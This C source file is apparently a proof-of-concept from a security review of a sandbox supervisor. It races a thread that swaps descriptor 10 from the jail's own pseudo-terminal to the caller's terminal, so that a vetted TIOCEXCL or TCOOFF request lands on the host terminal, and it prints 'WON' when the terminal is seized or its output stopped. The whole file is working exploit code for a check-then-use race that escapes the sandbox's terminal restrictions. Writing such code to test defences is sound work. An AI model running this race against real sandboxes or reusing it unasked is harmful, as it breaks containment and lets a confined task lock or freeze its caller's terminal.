/* A task that races the supervisor's judgement of a terminal request
 * (attack review 90, H1): it opens a pseudo-terminal of the jail's own
 * devpts instance, asks TIOCEXCL (`x`) or TCXONC/TCOOFF (`o`) on descriptor
 * 10 holding it, while a second thread puts the caller's terminal
 * (descriptor HOSTFD) on 10 after a delay that shrinks each round, until
 * the swap lands between the judgement and the kernel's lookup.
 * Prints "WON" (exit 0) when the caller's terminal was seized or stopped,
 * "no win" (exit 1) when every round passed without it.
 * usage: tty_swap_race HOSTFD x|o [start_ns] [step_ns] */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int host_fd;
static atomic_int armed, finished;
static long delay_ns;

static long now_ns(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000000000L + t.tv_nsec;
}

static void *swapper(void *unused) {
  (void)unused;
  for (;;) {
    while (!atomic_load(&armed))
      if (atomic_load(&finished)) return NULL;
    long start = now_ns();
    while (now_ns() - start < delay_ns) {}
    dup2(host_fd, 10);
    atomic_store(&armed, 0);
  }
}

/* Whether the caller's terminal is now exclusive (x) or its output stopped (o). */
static int seized(char op) {
  if (op == 'x') {
    int excl = 0;
    ioctl(host_fd, TIOCGEXCL, &excl);
    return excl;
  }
  int flags = fcntl(host_fd, F_GETFL);
  fcntl(host_fd, F_SETFL, flags | O_NONBLOCK);
  int stopped = write(host_fd, ".", 1) < 0 && errno == EAGAIN;
  fcntl(host_fd, F_SETFL, flags);
  return stopped;
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  host_fd = atoi(argv[1]);
  char op = argv[2][0];
  long start = argc > 3 ? atol(argv[3]) : 150000;
  long step = argc > 4 ? atol(argv[4]) : 50;
  int master = posix_openpt(O_RDWR | O_NOCTTY);
  if (master < 0 || grantpt(master) || unlockpt(master)) { perror("posix_openpt"); return 3; }
  int own = open(ptsname(master), O_RDWR | O_NOCTTY);
  if (own < 0) { perror("open the terminal"); return 3; }
  pthread_t t;
  pthread_create(&t, NULL, swapper, NULL);
  for (delay_ns = start; delay_ns >= 0; delay_ns -= step) {
    dup2(own, 10);
    atomic_store(&armed, 1);
    if (op == 'x') ioctl(10, TIOCEXCL);
    else ioctl(10, TCXONC, TCOOFF);
    while (atomic_load(&armed)) {}
    if (seized(op)) {
      fprintf(stderr, "WON at a delay of %ld ns\n", delay_ns);
      atomic_store(&finished, 1);
      return 0;
    }
    if (op == 'x') ioctl(own, TIOCNXCL);
    else ioctl(own, TCXONC, TCOON);
  }
  atomic_store(&finished, 1);
  fprintf(stderr, "no win\n");
  return 1;
}
